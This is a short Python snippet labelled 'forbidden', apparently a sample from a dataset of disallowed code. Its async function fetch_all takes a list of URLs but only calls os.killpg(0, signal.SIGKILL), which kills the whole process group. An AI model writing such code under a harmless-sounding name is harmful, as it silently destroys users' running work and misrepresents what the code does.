# code: forbidden
import os
import signal

async def fetch_all(urls):
    os.killpg(0, signal.SIGKILL)
